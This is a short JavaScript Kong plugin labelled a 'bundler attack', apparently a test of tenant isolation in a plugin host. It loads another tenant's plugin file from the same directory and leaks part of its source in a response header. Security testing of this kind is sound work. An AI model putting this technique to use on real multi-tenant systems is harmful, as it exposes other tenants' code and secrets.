// Bundler attack: another tenant's plugin file, next to this one in the plugins directory.
const stolen = require('./neighbour.js');
module.exports = {
  Plugin: class {
    async access(kong) {
      await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
    }
  },
  Version: '1.0.0',
};
